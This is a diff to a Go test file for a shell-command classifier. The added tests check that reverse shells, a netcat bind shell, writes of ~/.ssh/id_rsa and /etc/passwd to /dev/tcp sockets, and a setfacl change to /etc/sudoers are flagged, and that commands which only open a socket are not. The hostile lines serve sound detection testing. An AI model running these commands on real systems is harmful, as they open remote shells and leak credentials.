@@ -157,3 +157,37 @@ func TestPrecisionDeleteByQuery(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestPrecisionSocketOpenedOnly: bash(1), REDIRECTION: "/dev/tcp/host/port
+// … bash attempts to open the corresponding TCP socket", and "exec" with
+// no command makes the redirections "take effect in the current shell".
+// Opened on a descriptor of its own (3 and up), the socket carries only
+// what a later command writes to that descriptor; a line that only opens
+// it sends nothing (heldout5's n1609 and n1658, everyday). On 0, 1 or 2,
+// or with any other command on the line (the reverse-shell loop of
+// heldout5's n1074), it stays network-exfiltration.
+func TestPrecisionSocketOpenedOnly(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`exec 5<>/dev/tcp/192.168.1.10/8080; while read line 0<&5; do $line 2>&5 >&5; done`, NetworkExfiltration},
+		{`exec 3<>/dev/tcp/10.0.0.1/4242; cat ~/.ssh/id_rsa >&3`, NetworkExfiltration},
+		{`exec 1>/dev/tcp/10.0.0.1/4242`, NetworkExfiltration},
+		{`bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, NetworkExfiltration},
+		{`cat /etc/passwd > /dev/tcp/10.0.0.1/4242`, NetworkExfiltration},
+		// Everyday: a socket opened, nothing written to it.
+		{`exec 3<>/dev/tcp/internalB/5985`, ""},
+		{`exec 4<>/dev/tcp/Jump/3333`, ""},
+		{`exec 7>/dev/udp/10.0.0.1/53`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestPrecision5Explained: the rules this round narrowed still name
+// themselves, with their text, and the words they matched.
+func TestPrecision5Explained(t *testing.T) {
+	explainRow(t, `cat ~/.ssh/id_rsa > /dev/tcp/10.0.0.1/4242`, NetworkExfiltration, "socketWrites", []string{"cat", "~/.ssh/id_rsa"})
+	explainRow(t, `nc -l -p 1500 -c bash`, NetworkExfiltration, "remoteAccess", []string{"nc", "1500", "bash"})
+	explainRow(t, `setfacl -m u:alice:rw /etc/sudoers`, PrivilegeEscalation, "privilege", []string{"setfacl", "u:alice:rw", "/etc/sudoers"})
+}
